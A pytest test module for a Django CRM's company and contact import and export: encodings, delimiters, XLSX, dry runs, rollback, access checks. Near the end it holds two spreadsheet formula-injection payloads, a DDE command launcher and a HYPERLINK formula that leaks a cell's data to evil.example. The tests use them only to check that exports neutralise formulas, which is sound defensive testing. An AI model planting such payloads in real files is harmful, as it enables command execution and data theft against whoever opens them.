"""Import (CSV in UTF-8/cp1251, `;`/`,`, XLSX; dry run; all-or-nothing job) and export."""

from __future__ import annotations

import codecs
import csv
import io
import zipfile
from datetime import timedelta
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import Workbook, load_workbook

from greenwave.core.errors import DomainError
from greenwave.core.models import Event
from greenwave.crm import selectors, services
from greenwave.crm.errors import CrmError
from greenwave.crm.models import Company, Contact, ImportJob, ImportKind
from greenwave.crm.requisites import inn_with_checksum
from greenwave.crm.services import clients, import_rows, imports
from greenwave.crm.tabular import read_table, write_csv, write_xlsx

from .conftest import VALID_INN, bad_checksum

pytestmark = pytest.mark.django_db

INNS = [inn_with_checksum(f"50{i:07d}") for i in range(1, 6)]
HEADER = ["Название", "ИНН", "Регион", "Размер", "Телефон", "Контактное лицо", "Должность"]


def company_rows(inns=INNS) -> list[list[str]]:
    return [
        [
            f"ООО «Компания {i}»",
            inn,
            "Москва",
            "Малая (16–100 человек)",
            f"+7 495 100-00-{i:02d}",
            f"Иванов Иван {i}",
            "Директор",
        ]
        for i, inn in enumerate(inns, start=1)
    ]


def csv_bytes(rows, *, header=HEADER, delimiter=";", encoding="cp1251") -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding)


def upload(actor, content: bytes, name="clients.csv", kind="companies"):
    """Upload, then read the file as the worker does (its task is queued on commit)."""
    job = services.import_upload(actor=actor, kind=kind, file_name=name, content=content)
    assert job.status == "reading"
    return services.import_read(job_id=job.pk)


def check(actor, job, mapping):
    """Start the dry run, then run it as the worker does."""
    job = services.import_check(actor=actor, job=job, mapping=mapping)
    assert job.status == "checking"
    return services.import_check_run(job_id=job.pk)


def refused(job, text: str) -> None:
    """The worker refused the file: the job failed with the reason and holds no headers."""
    assert job.status == "failed"
    assert text in job.message
    assert job.headers == []
    assert not Company.objects.exists()


def test_cp1251_semicolon_csv_is_read_mapped_checked_and_imported(two_teams, run_jobs) -> None:
    actor = two_teams["head_a"]
    job = upload(actor, csv_bytes(company_rows()))
    assert (job.encoding, job.delimiter, job.total_rows) == ("cp1251", ";", 5)
    assert job.mapping == {
        "Название": "name",
        "ИНН": "inn",
        "Регион": "region",
        "Размер": "size",
        "Телефон": "phone",
        "Контактное лицо": "contact_full_name",
        "Должность": "contact_position",
    }
    job = check(actor, job, job.mapping)
    assert (job.valid_rows, job.error_rows, job.status) == (5, 0, "checked")
    assert not Company.objects.exists()  # the dry run writes nothing

    job = run_jobs(actor, job)

    assert job.status == "done"
    assert job.created_count == 5
    assert job.progress_percent == 100
    company = Company.objects.get(inn=INNS[0])
    assert company.name == "ООО «Компания 1»"
    assert company.size == "small"
    assert company.phone == "+74951000001"
    assert company.responsible == actor
    assert company.contacts.get().position == "Директор"
    assert Event.objects.filter(activity="company_created").count() == 5
    assert Event.objects.filter(activity="import_finished").count() == 1


def test_utf8_comma_csv_of_contacts_links_them_to_companies_by_inn(
    two_teams, run_jobs, company_a
) -> None:
    actor = two_teams["hunter_a"]
    content = csv_bytes(
        [
            [
                "Петрова Анна",
                "8 916 123-45-67; anna@example.ru",
                "12.03.1985",
                "ж",
                "да",
                VALID_INN,
            ],
            ["Сидоров Олег", "", "", "м", "нет", ""],
        ],
        header=["ФИО", "Телефон", "Дата рождения", "Пол", "Рассылка", "ИНН компании"],
        delimiter=",",
        encoding="utf-8",
    )
    job = upload(actor, content, kind="contacts")
    assert job.delimiter == ","
    mapping = {**job.mapping, "Телефон": "phones"}
    job = check(actor, job, mapping)
    assert job.error_rows == 1  # "anna@example.ru" is not a phone
    assert job.errors[0]["row"] == 2
    assert job.errors[0]["column"] == "Телефон"

    content = content.replace(b"; anna@example.ru", b"")
    job = upload(actor, content, kind="contacts")
    job = check(actor, job, job.mapping)
    job = run_jobs(actor, job)
    assert job.status == "done"
    anna = Contact.objects.get(full_name="Петрова Анна")
    assert anna.company == company_a
    assert anna.phones == ["+79161234567"]
    assert (anna.gender, anna.mailing_consent, anna.birthday.isoformat()) == (
        "female",
        True,
        "1985-03-12",
    )
    assert Contact.objects.get(full_name="Сидоров Олег").company is None
    for contact in Contact.objects.filter(full_name__in=["Петрова Анна", "Сидоров Олег"]):
        event = Event.objects.get(case_type="contact", case_id=str(contact.pk))
        assert event.payload == {"after": clients._CONTACT_HISTORY.snapshot(contact)}


def contact_file(count: int, inn: str, start: int = 0) -> bytes:
    rows = [
        [f"Контакт Номер {n}", f"+7 916 100-{n // 100:02d}-{n % 100:02d}", inn if n % 2 else ""]
        for n in range(start, start + count)
    ]
    return csv_bytes(rows, header=["ФИО", "Телефон", "ИНН компании"], encoding="utf-8")


def test_a_contact_born_in_the_future_is_a_row_error_of_the_dry_run(two_teams) -> None:
    actor = two_teams["hunter_a"]
    content = csv_bytes(
        [["Петрова Анна", "12.03.1985"], ["Сидоров Олег", "12.03.2085"]],
        header=["ФИО", "Дата рождения"],
    )
    job = upload(actor, content, kind="contacts")
    job = check(actor, job, job.mapping)
    assert (job.valid_rows, job.error_rows) == (1, 1)
    assert [(e["row"], e["field"]) for e in job.errors] == [(3, "birthday")]


def test_a_contacts_import_asks_the_database_the_same_number_of_times_for_3_or_30_rows(
    two_teams, company_a
) -> None:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    actor = two_teams["hunter_a"]
    # a contact in the base before both runs: so that neither job may skip asking the base
    # about duplicates (it does when no contact was written since its dry run began)
    services.contact_create(actor=actor, full_name="Уже в базе", phones=["+79169999999"])
    counts = []
    for size, start in ((3, 0), (30, 100)):  # (within one bulk INSERT batch of SQLite)
        job = upload(actor, contact_file(size, VALID_INN, start), kind="contacts")
        with CaptureQueriesContext(connection) as checking:
            job = check(actor, job, job.mapping)
        assert job.valid_rows == size
        services.import_confirm(actor=actor, job=job)
        with CaptureQueriesContext(connection) as running:
            job = services.import_run(job_id=job.pk)
        assert (job.status, job.created_count) == ("done", size)
        counts.append((len(checking), len(running)))
    assert counts[0] == counts[1]


def test_imported_contacts_have_their_creation_event_linked_to_the_company(
    two_teams, run_jobs, company_a
) -> None:
    actor = two_teams["hunter_a"]
    job = upload(actor, contact_file(4, VALID_INN), kind="contacts")
    job = run_jobs(actor, check(actor, job, job.mapping))
    assert job.status == "done"
    at_company = Contact.objects.get(full_name="Контакт Номер 1")
    alone = Contact.objects.get(full_name="Контакт Номер 0")
    assert (at_company.responsible, at_company.team) == (company_a.responsible, company_a.team)
    assert (alone.company, alone.responsible) == (None, actor)
    assert at_company.search_text == "контакт номер 1 +79161000001 ооо «ромашка»"
    event = Event.objects.get(case_type="contact", case_id=str(at_company.pk))
    assert (event.activity, event.actor, event.prev_activity) == ("contact_created", actor, "")
    assert event.payload["after"]["company"] == "ООО «Ромашка»"
    assert list(event.links.values_list("object_type", "object_id", "qualifier")) == [
        ("company", str(company_a.pk), "company")
    ]
    assert not Event.objects.get(case_type="contact", case_id=str(alone.pk)).links.exists()


def test_a_company_hidden_from_the_importer_after_the_check_stops_a_contacts_import(
    two_teams, run_jobs, company_a
) -> None:
    actor = two_teams["hunter_a"]
    job = upload(actor, contact_file(4, VALID_INN), kind="contacts")
    job = check(actor, job, job.mapping)
    services.company_delete(actor=actor, company=company_a)
    job = run_jobs(actor, job)
    assert job.status == "failed"
    assert [e["row"] for e in job.errors] == [3, 5]
    assert not Contact.objects.exists()


def test_xlsx_is_imported(two_teams, run_jobs) -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for row in company_rows(INNS[:2]):
        sheet.append([int(row[1]) if i == 1 else v for i, v in enumerate(row)])  # INN as number
    out = io.BytesIO()
    book.save(out)
    actor = two_teams["head_a"]
    job = upload(actor, out.getvalue(), name="clients.xlsx")
    assert job.encoding == "xlsx"
    job = run_jobs(actor, check(actor, job, job.mapping))
    assert job.created_count == 2
    assert set(Company.objects.values_list("inn", flat=True)) == set(INNS[:2])


def test_a_broken_row_is_listed_by_the_dry_run_and_nothing_is_imported(two_teams, run_jobs) -> None:
    actor = two_teams["head_a"]
    rows = company_rows()
    rows[2][1] = bad_checksum(rows[2][1])
    rows[3][1] = rows[0][1]  # the same INN twice in one file
    job = upload(actor, csv_bytes(rows))
    job = check(actor, job, job.mapping)

    assert (job.valid_rows, job.error_rows) == (3, 2)
    assert [(e["row"], e["column"], e["field"]) for e in job.errors] == [
        (4, "ИНН", "inn"),
        (5, "ИНН", "inn"),
    ]
    with pytest.raises(DomainError) as exc:
        run_jobs(actor, job)
    assert exc.value.code == "crm.bad_rows"
    assert not Company.objects.exists()

    job = run_jobs(actor, job, skip_invalid=True)
    assert job.status == "done"
    assert Company.objects.count() == 3


def _import_failing_at(
    two_teams: Any, run_jobs: Any, monkeypatch: Any, call: int, error: Exception
) -> Any:
    """The companies import run by the head, its `call`-th contact creation raising `error`."""
    actor = two_teams["head_a"]
    job = upload(actor, csv_bytes(company_rows()))
    job = check(actor, job, job.mapping)
    real = services.contact_create
    calls = {"n": 0}

    def failing(**kwargs: Any) -> Any:
        calls["n"] += 1
        if calls["n"] == call:
            raise error
        return real(**kwargs)

    monkeypatch.setattr(imports, "contact_create", failing)
    return run_jobs(actor, job)


def test_a_failure_while_writing_leaves_nothing_half_imported(
    two_teams, run_jobs, monkeypatch
) -> None:
    job = _import_failing_at(
        two_teams,
        run_jobs,
        monkeypatch,
        4,
        DomainError(CrmError.INVALID_PHONE, "boom", details={"field": "x"}),
    )

    assert job.status == "failed"
    assert "boom" in job.message
    assert job.created_count == 0
    assert not Company.objects.exists()
    assert not Contact.objects.exists()
    assert not Event.objects.filter(activity="company_created").exists()


def test_a_database_error_while_writing_fails_the_job_instead_of_leaving_it_running(
    two_teams, run_jobs, monkeypatch
) -> None:
    from django.db import DatabaseError

    job = _import_failing_at(
        two_teams, run_jobs, monkeypatch, 3, DatabaseError("out of shared memory")
    )

    assert job.status == "failed"
    assert "worker log" in job.message or "журнале" in job.message
    assert not Company.objects.exists()
    assert not Contact.objects.exists()
    assert Event.objects.filter(activity="import_failed").count() == 1


def test_a_companies_import_takes_no_lock_per_row(two_teams, run_jobs) -> None:
    """A record created in the import's transaction needs no case lock: thousands of rows
    would exhaust PostgreSQL's lock table (max_locks_per_transaction)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    if connection.vendor != "postgresql":
        pytest.skip("advisory locks are PostgreSQL's; SQLite serialises writers instead")
    actor = two_teams["head_a"]
    job = upload(actor, csv_bytes(company_rows()))
    job = check(actor, job, job.mapping)
    with CaptureQueriesContext(connection) as queries:
        job = run_jobs(actor, job)
    assert job.status == "done"
    assert job.created_count == 5
    locks = [q["sql"] for q in queries.captured_queries if "pg_advisory_xact_lock" in q["sql"]]
    assert locks == [f"SELECT pg_advisory_xact_lock(hashtext('import_job:{job.pk}'))"]


def test_rows_that_became_duplicates_after_the_check_stop_the_import(two_teams, run_jobs) -> None:
    actor = two_teams["head_a"]
    job = upload(actor, csv_bytes(company_rows()))
    job = check(actor, job, job.mapping)
    services.company_create(actor=actor, name="Успел раньше", inn=INNS[4])
    job = run_jobs(actor, job)
    assert job.status == "failed"
    assert job.errors[0]["row"] == 6
    assert Company.objects.count() == 1


def test_an_empty_file_is_refused_at_once(two_teams) -> None:
    with pytest.raises(DomainError) as exc:
        upload(two_teams["head_a"], b"", name="empty.csv")
    assert exc.value.code == "crm.bad_file"
    assert not ImportJob.objects.exists()


@pytest.mark.parametrize(
    ("content", "name", "text"),
    [
        (b"\x00\x01\xff\xfe garbage", "bad.xlsx", "XLSX"),
        ("Название;ИНН\n".encode(), "header-only.csv", "no data rows"),
    ],
)
def test_broken_files_are_refused_by_the_worker_with_a_clear_error(
    two_teams, content, name, text
) -> None:
    with translation.override("en"):
        job = upload(two_teams["head_a"], content, name=name)
    refused(job, text)
    assert Event.objects.filter(case_id=str(job.pk), activity="import_failed").count() == 1
    # Nothing to map: the dry run is refused until a corrected file is uploaded.
    with pytest.raises(DomainError) as exc:
        services.import_check(actor=two_teams["head_a"], job=job, mapping={})
    assert exc.value.code == "crm.bad_file"


def test_a_file_is_read_by_the_worker_not_by_the_web_request(
    two_teams, monkeypatch, django_capture_on_commit_callbacks
) -> None:
    """The upload keeps the bytes and queues the reading; nothing parses the file before the
    worker's task runs (a hostile file cannot hold the web worker)."""
    read = []
    monkeypatch.setattr(import_rows, "read_table", lambda *a: read.append(a) or 1 / 0)
    queued = []
    monkeypatch.setattr(imports, "_enqueue", lambda task, pk: queued.append((task, pk)))
    with django_capture_on_commit_callbacks(execute=True):
        job = services.import_upload(
            actor=two_teams["head_a"],
            kind="companies",
            file_name="x.csv",
            content=csv_bytes(company_rows()),
        )
    assert (job.status, read, queued) == ("reading", [], [("read_import", job.pk)])
    monkeypatch.undo()
    job = services.import_read(job_id=job.pk)
    assert (job.status, job.headers, job.total_rows) == ("uploaded", HEADER, 5)
    # The dry run is the worker's too: the request only checks the mapping and queues it.
    monkeypatch.setattr(imports, "_sort_rows", lambda *a, **k: 1 / 0)
    monkeypatch.setattr(imports, "_enqueue", lambda task, pk: queued.append((task, pk)))
    with django_capture_on_commit_callbacks(execute=True):
        job = services.import_check(actor=two_teams["head_a"], job=job, mapping=job.mapping)
    assert job.status == "checking"
    assert queued[-1] == ("check_import", job.pk)


def test_a_program_error_in_the_worker_fails_the_job_with_a_message(two_teams, monkeypatch) -> None:
    actor = two_teams["head_a"]
    job = upload(actor, csv_bytes(company_rows()))
    job = services.import_check(actor=actor, job=job, mapping=job.mapping)
    monkeypatch.setattr(imports, "_sort_rows", lambda *a, **k: 1 / 0)
    job = services.import_check_run(job_id=job.pk)
    assert job.status == "failed"
    assert job.message
    monkeypatch.undo()
    assert check(actor, job, job.mapping).valid_rows == 5  # checked again once fixed


def test_a_file_left_unread_by_a_dead_worker_is_sent_again(
    two_teams, monkeypatch, django_capture_on_commit_callbacks
) -> None:
    queued = []
    monkeypatch.setattr(imports, "_enqueue", lambda task, pk: queued.append((task, pk)))
    job = services.import_upload(
        actor=two_teams["head_a"], kind="companies", file_name="x.csv", content=b"A;B\n1;2\n"
    )
    assert services.imports_resume_stalled() == 0  # not forgotten yet
    old = timezone.now() - services.IMPORT_REQUEUE_AFTER - timedelta(minutes=1)
    ImportJob.objects.filter(pk=job.pk).update(updated_at=old)
    assert services.imports_resume_stalled() == 1
    assert queued == [("read_import", job.pk)]


def test_an_unclosed_quote_is_refused_at_its_line_instead_of_merging_the_rest(two_teams) -> None:
    # Regression: the lenient csv reader read from the open quote to the end of the file, so
    # rows 3..6 silently became one company name.
    lines = csv_bytes(company_rows()).decode("cp1251").splitlines(keepends=True)
    lines[2] = '"' + lines[2]
    refused(upload(two_teams["head_a"], "".join(lines).encode("cp1251")), "Строка 3")


def test_quoted_values_over_several_lines_and_inner_quotes_are_still_read(two_teams) -> None:
    rows = company_rows()
    rows[0][0] = 'ООО "Ромашка"'
    rows[4][5] = "Иван\nПетров"  # the last record spans two lines inside its quotes
    job = upload(two_teams["head_a"], csv_bytes(rows))
    assert job.total_rows == 5


def test_mapping_must_cover_required_fields_once(two_teams) -> None:
    actor = two_teams["head_a"]
    job = upload(actor, csv_bytes(company_rows()))
    with pytest.raises(DomainError) as exc:
        check(actor, job, {"ИНН": "inn"})
    assert exc.value.details["field"] == "mapping"
    with pytest.raises(DomainError):
        check(actor, job, {"Название": "name", "ИНН": "name"})


def test_someone_elses_import_is_404(two_teams, bearer) -> None:
    job = upload(two_teams["head_a"], csv_bytes(company_rows()))
    client = Client()
    client.force_login(two_teams["hunter_a"])
    assert client.get(reverse("crm:import_detail", args=[job.pk])).status_code == 404
    assert bearer(two_teams["hunter_a"]).get(f"/api/v1/imports/{job.pk}").status_code == 404
    with pytest.raises(DomainError):
        services.import_check(actor=two_teams["hunter_a"], job=job, mapping=job.mapping)


def test_import_through_the_pages_with_progress(
    two_teams, django_capture_on_commit_callbacks
) -> None:
    client = Client()
    client.force_login(two_teams["head_a"])
    file = SimpleUploadedFile("clients.csv", csv_bytes(company_rows()), "text/csv")
    response = client.post(reverse("crm:import_start"), {"kind": "companies", "file": file})
    job = ImportJob.objects.get()
    assert response.url == reverse("crm:import_detail", args=[job.pk])
    reading = client.get(response.url).content.decode()
    assert "hx-trigger" in reading  # the page waits for the worker to read the file
    progress_url = reverse("crm:import_progress", args=[job.pk]) + "?reload=1"
    assert "HX-Refresh" not in client.get(progress_url).headers
    services.import_read(job_id=job.pk)
    job.refresh_from_db()
    assert client.get(progress_url).headers["HX-Refresh"] == "true"  # read: the page reloads
    page = client.get(response.url).content.decode()
    assert "Контактное лицо" in page

    columns = {f"col_{i}": job.mapping[h] for i, h in enumerate(job.headers)}
    with django_capture_on_commit_callbacks(execute=True):
        client.post(response.url, {"action": "check", **columns})
    page = client.get(response.url)
    assert page.context["job"].valid_rows == 5
    with django_capture_on_commit_callbacks(execute=True):
        client.post(response.url, {"action": "confirm"})
    progress = client.get(reverse("crm:import_progress", args=[job.pk])).content.decode()
    assert "100%" in progress
    assert "hx-trigger" not in progress  # finished: the bar stops polling
    assert Company.objects.count() == 5


def test_import_through_the_api(two_teams, bearer, django_capture_on_commit_callbacks) -> None:
    client = bearer(two_teams["head_a"])
    file = SimpleUploadedFile("clients.csv", csv_bytes(company_rows()), "text/csv")
    with django_capture_on_commit_callbacks(execute=True):
        created = client.post("/api/v1/imports", {"file": file, "kind": "companies"})
    assert created.status_code == 201, created.content
    assert created.json()["status"] == "reading"
    job = client.get(f"/api/v1/imports/{created.json()['id']}").json()
    assert job["status"] == "uploaded"
    with django_capture_on_commit_callbacks(execute=True):
        checked = client.post(
            f"/api/v1/imports/{job['id']}/check",
            {"mapping": job["mapping"]},
            content_type="application/json",
        )
    assert checked.json()["status"] == "checking"
    assert client.get(f"/api/v1/imports/{job['id']}").json()["valid_rows"] == 5
    with django_capture_on_commit_callbacks(execute=True):
        confirmed = client.post(
            f"/api/v1/imports/{job['id']}/confirm", {}, content_type="application/json"
        )
    assert confirmed.status_code == 200
    assert client.get(f"/api/v1/imports/{job['id']}").json()["status"] == "done"
    bad = client.post(
        "/api/v1/imports",
        {"file": SimpleUploadedFile("x.csv", b""), "kind": "companies"},
    )
    assert bad.status_code == 400
    assert bad.json()["code"] == "crm.bad_file"
    with django_capture_on_commit_callbacks(execute=True):
        unclosed = client.post(
            "/api/v1/imports",
            {
                "file": SimpleUploadedFile("x.csv", 'Название;ИНН\n"Альфа;1\nБета;2\n'.encode()),
                "kind": "companies",
            },
        )
    assert unclosed.status_code == 201
    failed = client.get(f"/api/v1/imports/{unclosed.json()['id']}").json()
    assert failed["status"] == "failed"
    assert "2" in failed["message"]


def test_export_of_the_filtered_list_as_csv_and_xlsx(two_teams, company_a, company_b) -> None:
    actor = two_teams["director"]
    services.company_create(actor=actor, name="ООО «Лютик»", region="Тула")
    client = Client()
    client.force_login(actor)

    response = client.get(reverse("crm:company_export") + "?region=Москва&format=csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert len(rows) == 2
    assert rows[1][0] == "ООО «Ромашка»"
    assert rows[1][1] == VALID_INN

    xlsx = client.get(reverse("crm:company_export") + "?format=xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet.max_row == 4  # header + three companies

    hunter = Client()
    hunter.force_login(two_teams["hunter_b"])
    text = b"".join(hunter.get(reverse("crm:company_export")).streaming_content).decode("utf-8-sig")
    assert "Ромашка" not in text
    assert "Южный ветер" in text


def test_exported_companies_read_back_with_every_column_mapped(two_teams, company_a) -> None:
    actor = two_teams["head_a"]
    headers, rows = selectors.company_export_rows(
        actor=actor, query=selectors.ListQuery(sort="name")
    )
    job = upload(actor, csv_bytes(list(rows), header=headers, encoding="utf-8"))
    # Every company column of the import comes back; the contact ones are not exported.
    company_columns = [
        column.field
        for column in import_rows.IMPORT_COLUMNS[ImportKind.COMPANIES]
        if not column.field.startswith("contact_")
    ]
    assert [f for f in job.mapping.values() if f] == company_columns
    job = check(actor, job, job.mapping)
    # The only complaint: the company is already in the base.
    assert [(e["field"], e["value"]) for e in job.errors] == [("inn", VALID_INN)]


def test_api_export(two_teams, bearer, company_a) -> None:
    response = bearer(two_teams["hunter_a"]).get("/api/v1/companies/export?format=csv")
    assert response.status_code == 200
    assert "ООО «Ромашка»" in response.content.decode("utf-8-sig")
    contacts = bearer(two_teams["hunter_a"]).get("/api/v1/contacts/export?format=xlsx")
    assert contacts.status_code == 200
    assert contacts.content.startswith(b"PK")


FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1;"click")']


def _xlsx_cells(content: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [(c.value, c.data_type) for row in sheet.iter_rows() for c in row]


@pytest.mark.parametrize("surface", ["html", "api"])
def test_exports_make_formulas_inert_in_csv_and_xlsx(two_teams, bearer, surface) -> None:
    actor = two_teams["head_a"]
    for name in FORMULAS:
        services.company_create(actor=actor, name=name, phone="+7 495 100-00-01")
    if surface == "html":
        client = Client()
        client.force_login(actor)
        url = reverse("crm:company_export")
    else:
        client = bearer(actor)
        url = "/api/v1/companies/export"

    response = client.get(url + "?format=csv&sort=name")
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    names = sorted(row[0] for row in rows[1:])
    assert names == sorted("'" + name for name in FORMULAS)
    assert {row[11] for row in rows[1:]} == {"'+74951000001"}  # the phone, normalised

    response = client.get(url + "?format=xlsx")
    assert response.status_code == 200
    cells = _xlsx_cells(response.content)
    assert {"'" + name for name in FORMULAS} <= {value for value, _type in cells}
    assert all(data_type != "f" for _value, data_type in cells)  # no cell is a formula
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in book.read(n) for n in sheets)


@pytest.mark.parametrize(
    ("value", "stored"),
    [
        ("=1+1", "=1+1"),
        ("+1+1", "+1+1"),
        ("-1+1", "-1+1"),
        ("@SUM(A1:A2)", "@SUM(A1:A2)"),
        ("\t=1+1", "=1+1"),  # cells are stripped: the formula behind the tab is escaped
        ("\r\n=1+1", "=1+1"),
    ],
)
def test_every_formula_trigger_is_escaped_and_reads_back_unchanged(value, stored) -> None:
    text = b"".join(write_csv(["Name", "Amount"], [[value, -5]])).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert row == ["'" + stored, "-5"]  # numbers stay numbers
    assert read_table(text.encode(), "x.csv").rows == [[stored, "-5"]]
    xlsx = write_xlsx("t", ["Name", "Amount"], [[value, -5]])
    assert _xlsx_cells(xlsx)[2:] == [("'" + stored, "s"), (-5, "n")]
    assert read_table(xlsx, "x.xlsx").rows == [[stored, "-5"]]


def test_a_utf16_csv_with_its_bom_is_read(two_teams) -> None:
    text = "\t".join(HEADER) + "\n" + "\t".join(company_rows()[0]) + "\n"
    job = upload(two_teams["head_a"], codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    assert (job.encoding, job.delimiter, job.total_rows) == ("utf-16", "\t", 1)
    assert job.headers == HEADER


@pytest.mark.parametrize(
    "content",
    [
        "Название;ИНН\nРомашка;1\n".encode("utf-16-le"),  # UTF-16 without a BOM
        b"Name\x00;INN\nA;1\n",  # a NUL in a header
        b"Name;INN\nA\x00;1\n",
    ],
)
def test_a_csv_with_nul_characters_is_refused_clearly(two_teams, content) -> None:
    refused(upload(two_teams["head_a"], content), "NUL")
